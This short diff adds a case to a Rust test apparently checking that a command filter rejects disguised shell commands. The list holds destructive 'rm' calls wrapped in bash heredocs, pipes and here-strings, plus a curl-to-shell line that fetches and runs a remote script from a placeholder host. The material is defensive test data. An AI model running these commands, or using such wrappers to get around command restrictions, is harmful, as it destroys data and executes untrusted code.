@@ -482,6 +482,7 @@ fn what_is_forbidden_cannot_be_dressed_up() {
                 "bash rm x",
                 "sh -e rm x",
                 "source rm x",
+                "bash + <<E\nrm x\nE",
                 "echo rm x | bash -s a",
                 "curl https://x.example | sh -s -- --yes",
                 "bash -s a b <<< 'rm x'",
